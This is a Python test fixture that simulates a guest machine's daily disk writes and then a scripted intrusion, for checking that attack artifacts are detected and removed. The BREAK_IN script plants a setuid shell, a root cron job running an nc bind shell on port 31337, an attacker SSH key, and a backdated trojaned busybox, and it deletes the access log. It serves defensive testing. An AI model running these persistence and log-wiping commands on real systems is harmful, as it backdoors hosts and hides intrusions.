"""A guest's days, and the night in which somebody breaks in: what is typed on its console, and what comes of it.

The intruder leaves a shell that is setuid, a line for cron, a key for ssh and a program that does more than it did,
puts that one's time back, and removes the log of the day. Each of them is a path that must be named, and be gone
afterwards.
"""

from dataclasses import dataclass

SHELL = "/home/.cache/sh"
CRON = "/var/spool/cron/crontabs/root"
KEY = "/root/.ssh/authorized_keys"
TROJAN = "/bin/busybox"
LOG = "/var/log/access.log"

CRON_LINE = "* * * * * /home/.cache/sh -c 'nc -l -p 31337 -e /bin/sh'"
KEY_LINE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEq0a9 nobody@nowhere"
TROJAN_TAIL = "and it calls home"

_PAGES = 64
_PAGES_A_DAY = 5
_WRITTEN = f"{LOG} /var/db/pages /var/spool/mail/*"


def day(number: int) -> str:
    """A day's writes on /var: a log, each piece of it synced; pages of a database, in place; a spool."""
    pages = " ".join(str((number * 37 + page * 19) % _PAGES) for page in range(_PAGES_A_DAY))
    return f"""(set -e
mkdir -p /var/db /var/spool/mail
for hour in 00 06 12 18; do
    seq 1 40 | sed "s/^/day {number} $hour:00 request /" | dd of={LOG} oflag=append conv=notrunc,fsync 2>/dev/null
done
[ -e /var/db/pages ] || dd if=/dev/urandom of=/var/db/pages bs=4096 count={_PAGES} 2>/dev/null
for page in {pages}; do
    dd if=/dev/urandom of=/var/db/pages bs=4096 seek=$page count=1 conv=notrunc,fsync 2>/dev/null
done
echo "to be delivered on day {number}" >/var/spool/mail/{number}
rm -f /var/spool/mail/{number - 2})"""


DIGESTS = f"sha256sum {_WRITTEN}"
"""Prints what the day's files hold."""

BREAK_IN = f"""(set -e
mkdir -p /home/.cache && cp {TROJAN} {SHELL} && chmod 4755 {SHELL}
mkdir -p /var/spool/cron/crontabs && echo "{CRON_LINE}" >{CRON}
mkdir -p -m 700 /root/.ssh && echo "{KEY_LINE}" >{KEY}
cp -p {TROJAN} /tmp/new && echo "{TROJAN_TAIL}" >>/tmp/new && touch -r {TROJAN} /tmp/new && mv /tmp/new {TROJAN}
rm {LOG}
sync)"""

LOOK = f"""(for path in {SHELL} {CRON} {KEY} {LOG}; do [ ! -e $path ] || echo "there: $path"; done
find / /home /var -xdev -type f -perm -4000 | sort -u | sed 's/^/setuid: /'
stat -c 'time: %Y' {TROJAN}
sha256sum {TROJAN})"""
"""Prints what can be seen from inside, with the programs that are there."""


@dataclass(frozen=True)
class Look:
    """What `LOOK` printed."""

    there: tuple[str, ...]
    setuid: tuple[str, ...]
    program_time: int
    program_sha256: str


def read_look(text: str) -> Look:
    lines = text.split("\n")
    said = {word: tuple(line.split(": ")[1] for line in lines if line.startswith(f"{word}: ")) for word in _WORDS}
    (time,) = said["time"]
    (digest,) = (line.split()[0] for line in lines if line.endswith(f"  {TROJAN}"))
    return Look(said["there"], said["setuid"], int(time), digest)


_WORDS = ("there", "setuid", "time")
